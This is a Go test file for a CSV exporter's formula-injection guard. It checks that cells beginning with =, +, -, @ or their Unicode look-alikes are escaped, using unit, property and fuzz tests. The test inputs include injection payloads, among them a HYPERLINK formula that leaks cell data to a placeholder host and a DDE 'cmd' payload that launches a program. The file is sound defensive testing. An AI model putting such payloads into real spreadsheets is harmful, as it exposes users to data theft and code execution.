package csv_test

import (
	stdcsv "encoding/csv"
	"errors"
	"io"
	"strings"
	"testing"
	"time"
	"unicode"

	"canvass/internal/export"
	"canvass/internal/export/csv"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/text/unicode/norm"
	"pgregory.net/rapid"
)

func TestWrite(t *testing.T) {
	at := time.Date(2026, 3, 14, 9, 0, 0, 0, time.FixedZone("EDT", -4*3600))
	table := export.Table{
		Columns: []export.Column{
			{Name: "response_id", ID: true}, {Name: "=answer"}, {Name: "n", Kind: export.Number}, {Name: "share", Kind: export.Share}, {Name: "at", Kind: export.Moment}, {Name: "on", Kind: export.Day},
		},
		Rows: export.Rows([][]export.Cell{
			{export.Words("=id-1"), export.Words(`He said "yes", twice`), export.Count(12345), {Kind: export.Share, Number: 0.125}, export.At(at), export.On(at)},
			{export.Words("-2"), export.Words("=1+1\nsecond line"), {Kind: export.Number, Number: -1.5}, {}, {}, {}},
			{export.To("+3", "Sheet"), export.Words("00123")},
		}),
	}
	want := `response_id,'=answer,n,share,at,on
=id-1,"He said ""yes"", twice",12345,0.125,2026-03-14T09:00:00-04:00,2026-03-14
-2,"'=1+1
second line",-1.5,,,
+3,00123,,,,
`
	var b strings.Builder
	if err := csv.Write(&b, table); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(want, b.String()); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

func TestGuard(t *testing.T) {
	for _, c := range []struct {
		in      string
		guarded bool
	}{
		{"=1+1", true}, {`=HYPERLINK("http://x.example/?"&A1,"ok")`, true}, {"@SUM(1)", true}, {"+1+1", true}, {"-1+1", true}, {"=cmd|'/c calc'!A1", true},
		{"\t=1+1", true}, {"\r=1+1", true}, {"\n=1+1", true}, {" =1+1", true}, {"\ufeff=1+1", true}, {"\u00a0\u200b=1", true}, {"\x00=1", true}, {"\x01=1", true},
		{"\tharmless", true}, {"\x00", true}, {"\nx", true},
		{"＝1+1", true}, {"＋1", true}, {"－1", true}, {"＠x", true}, {"﹦1", true}, {"⁺1", true},
		{"+44 20 7946 0000", true}, {"- I agree", true}, {"@handle", true}, {"-1.5", true},
		{"'=1+1", false}, {"a=1", false}, {"", false}, {"  ", false}, {"00123", false}, {"1e5", false}, {"– a dash", false}, {"a,\"=1+1\"", false}, {"مرحبا", false},
	} {
		want := c.in
		if c.guarded {
			want = "'" + c.in
		}
		if got := csv.Guard(c.in); got != want {
			t.Errorf("Guard(%q) = %q, want %q", c.in, got, want)
		}
		if got := csv.Unguard(want); c.guarded && got != c.in {
			t.Errorf("Unguard(%q) = %q, want %q", want, got, c.in)
		}
	}
}

// TestGuardKnowsCompatibilityForms compares its short list with Unicode's.
func TestGuardKnowsCompatibilityForms(t *testing.T) {
	for r := rune(0x80); r <= unicode.MaxRune; r++ {
		folded := norm.NFKC.String(string(r))
		if strings.ContainsAny(folded[:1], "=+-@") && csv.Guard(string(r)) == string(r) {
			t.Errorf("%U folds to %q and is not guarded", r, folded)
		}
	}
}

// TestWriteComesBack reads any table back, but for the guard.
func TestWriteComesBack(t *testing.T) {
	rapid.Check(t, func(r *rapid.T) {
		text := rapid.String().Draw(r, "text")
		var b strings.Builder
		table := export.Table{
			Columns: []export.Column{{Name: "id", ID: true}, {Name: "text"}},
			Rows:    export.Rows([][]export.Cell{{export.Words(text), export.Words(text)}}),
		}
		if err := csv.Write(&b, table); err != nil {
			r.Fatal(err)
		}
		records, err := stdcsv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			r.Fatal(err)
		}
		lf := strings.ReplaceAll(text, "\r\n", "\n") // a reader of CSV does so
		if got := records[1]; got[0] != lf || got[1] != csv.Guard(lf) {
			r.Errorf("%q came back as %q", text, got)
		}
	})
}

func TestWriteReportsErrors(t *testing.T) {
	boom := errors.New("boom")
	table := export.Table{Columns: []export.Column{{Name: "a"}}}
	table.Rows = func(yield func([]export.Cell, error) bool) {
		_ = yield([]export.Cell{export.Words("x")}, nil) && yield(nil, boom)
	}
	if err := csv.Write(io.Discard, table); !errors.Is(err, boom) || err.Error() != "csv row 2: boom" {
		t.Errorf("rows that fail: %v", err)
	}
	table.Rows = export.Rows([][]export.Cell{make([]export.Cell, 2)})
	if err := csv.Write(io.Discard, table); err == nil {
		t.Error("two cells for one column were written")
	}
	table.Rows = nil
	if err := csv.Write(full{}, table); !errors.Is(err, errFull) {
		t.Errorf("a writer that fails: %v", err)
	}
}

var errFull = errors.New("full")

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errFull }

// FuzzGuard: what comes out is the text, guarded or not, and no formula.
func FuzzGuard(f *testing.F) {
	for _, s := range []string{"=1", " ＋1", "\ufeff@x", "plain", "\x00", "-1.5"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := csv.Guard(s)
		if strings.TrimPrefix(got, "'") != strings.TrimPrefix(s, "'") {
			t.Errorf("Guard(%q) = %q", s, got)
		}
		if plain := csv.Unguard(s); csv.Unguard(csv.Guard(plain)) != plain {
			t.Errorf("%q does not come back", plain)
		}
		first := strings.TrimLeftFunc(norm.NFKC.String(got), func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
		if first != "" && strings.ContainsAny(first[:1], "=+-@") {
			t.Errorf("Guard(%q) = %q is still a formula", s, got)
		}
	})
}
